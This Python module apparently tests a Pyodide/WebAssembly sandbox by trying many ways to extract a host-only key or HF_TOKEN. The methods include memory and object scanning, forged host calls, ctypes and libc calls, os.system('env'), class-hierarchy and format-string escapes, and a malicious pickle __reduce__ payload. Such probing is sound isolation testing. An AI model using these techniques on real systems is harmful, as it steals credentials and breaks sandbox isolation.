"""How Python looks for a key that only its host should know: each function gives it, or raises what it found instead."""

import re

# Not written in one piece, so that no search finds it here.
KEY = re.compile("-".join(["tabagents", "key", "[0-9a-f]{32}"]))


def key_in(text):
    found = KEY.search(text) if isinstance(text, str) else None
    return found and found.group()


def refuse(why):
    raise LookupError(why)


async def garbage_collector(targets):
    import gc

    for thing in gc.get_objects():
        for one in [thing, *gc.get_referents(thing)]:
            if key := key_in(one):
                return key
    return refuse("no object that the garbage collector knows holds a key")


async def frames(targets):
    import sys

    frame = sys._getframe()
    while frame:
        for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if key := key_in(value) or key_in(getattr(value, "key", None)):
                return key
        frame = frame.f_back
    return refuse("no frame below this code holds a key")


async def modules(targets):
    import sys

    for module in list(sys.modules.values()):
        for value in list(getattr(module, "__dict__", {}).values()):
            if key := key_in(value) or key_in(getattr(value, "key", None)):
                return key
    return refuse(f"none of {len(sys.modules)} modules holds a key")


async def forged_call(targets):
    """Calls the host past the functions that the code was given."""
    import gc

    asked = 0
    for thing in gc.get_objects():
        if hasattr(type(thing), "read_key"):
            return thing.read_key()
        call = getattr(getattr(thing, "host", None), "call", None)
        if call is not None:
            asked += 1
            call("read_key", "{}", None)
    return refuse(f"{asked} objects that lead to the host were asked, and it did not answer")


async def memory(targets):
    """Reads all that this WebAssembly has, through ctypes."""
    import ctypes

    from pyodide_js import _module

    size = _module.HEAPU8.length
    pattern = re.compile(KEY.pattern.encode())
    step = 1 << 22
    for start in range(8, size, step):
        found = pattern.search(ctypes.string_at(start, min(step + 64, size - start)))
        if found:
            return found.group().decode()
    return refuse(f"{size:,} bytes of memory hold no key")


async def library_call(targets):
    """Calls into the C library by ctypes."""
    import ctypes

    library = ctypes.CDLL(None)
    library.getenv.restype = ctypes.c_char_p
    found = library.getenv(b"HF_TOKEN")
    return key_in((found or b"").decode()) or refuse(f"the environment holds no key, system() gives {library.system(None)}")


def environment(os):
    """What thieves do with the `os` that they have reached."""
    for value in os.environ.values():
        if key := key_in(value):
            return key
    try:
        shell = f"a shell gives {os.system('env')}"
    except OSError as error:
        shell = f"a shell gives {error.strerror}"
    return refuse(f"os was reached, that of Python's own WebAssembly: its environment holds no key, {shell}")


async def module_of_module(targets):
    import random

    return environment(random._os)


async def subclasses(targets):
    for one in ().__class__.__base__.__subclasses__():
        space = getattr(one.__init__, "__globals__", {})
        if "sys" in space:
            return environment(space["sys"].modules["os"])
    return refuse("no class leads to a module")


async def dunder_import(targets):
    return environment(getattr(__builtins__, "__dict__", __builtins__)["__import__"]("os"))


async def format_string(targets):
    import logging

    text = "{0.__init__.__globals__[os].environ}".format(logging.LogRecord)
    return key_in(text) or refuse("os was reached by a format string; its environment holds no key")


async def pickled(targets):
    """What runs code wherever it is unpickled."""
    import pickle

    class Evil:
        def __reduce__(self):
            return eval, ("__import__('os').environ.get('HF_TOKEN')",)

    return pickle.dumps(Evil())


async def subprocess_call(targets):
    import subprocess

    return key_in(subprocess.run(["env"], capture_output=True, text=True).stdout) or refuse("it ran and found no key")
